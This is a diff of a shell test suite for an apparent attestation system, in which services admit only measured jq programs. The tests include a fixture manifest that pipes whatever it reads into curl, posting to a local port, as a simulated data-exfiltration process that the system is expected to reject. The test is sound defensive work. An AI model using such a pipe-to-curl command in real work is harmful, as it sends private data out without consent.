@@ -26,8 +26,9 @@ setup_file() {
 	ti-attest manifest join.jq -n --slurpfile receipts receipts.msg \
 	    --from store.pub --to-file taxi.pub >join.json
 	# A process that tries to send what it reads elsewhere, over TCP.
-	ti-attest manifest --exec /usr/bin/curl -s --data-binary @- \
-	    http://127.0.0.1:9/ --from store.pub --to-file taxi.pub >exfil.json
+	ti-attest manifest --from store.pub --to-file taxi.pub \
+	    --exec /usr/bin/curl -s --data-binary @- http://127.0.0.1:9/ \
+	    >exfil.json
 	# The same program edited: another measurement, not admitted.
 	sed 's/15000/100/' eligible.jq >edited.jq
 	ti-attest manifest edited.jq --from store.pub --to-file taxi.pub \
@@ -96,6 +97,7 @@ launch() {	# launch MANIFEST [ENV...]: the launcher, status and stderr
 	launch eligible.json LAUNCHER_TEE="$D/tee1"
 	assert_success
 	assert_output --partial "fetch=0 run=0 post=0 exit=0"
+	refute_output --regexp "$PHONE"
 	[ "$(wc -l <expected.ndjson)" -gt 50 ]
 	bookings >booked.ndjson
 	run diff expected.ndjson booked.ndjson
@@ -167,10 +169,10 @@ launch() {	# launch MANIFEST [ENV...]: the launcher, status and stderr
 	assert_output 0
 }
 
-# attest URL MANIFEST: print "nonce evidence" for a fresh challenge.
+# attest URL MANIFEST [CURL-OPTIONS]: "nonce evidence" for a fresh challenge.
 attest() {
 	local n
-	n=$(curl -s -D - -o /dev/null "$1" |
+	n=$(curl -s -D - -o /dev/null "${@:3}" "$1" | tr -d '\r' |
 	    sed -n 's/^WWW-Authenticate: TI-Attest nonce="\([^"]*\)".*/\1/p')
 	printf '%s %s\n' "$n" "$(ti-attest quote --manifest "$2" --nonce "$n")"
 }
@@ -227,7 +229,7 @@ attest() {
 }
 
 @test "the taxi refuses a message not signed by the attested process" {
-	read -r n ev < <(attest "$TAXI/bookings" eligible.json)
+	read -r n ev < <(attest "$TAXI/bookings" eligible.json -X POST)
 	# A message from the store's key, not the process's sig_key.
 	read -r n2 ev2 < <(attest "$STORE/customers" eligible.json)
 	curl -s -H "Authorization: TI-Attest $ev2" -H "TI-Nonce: $n2" \
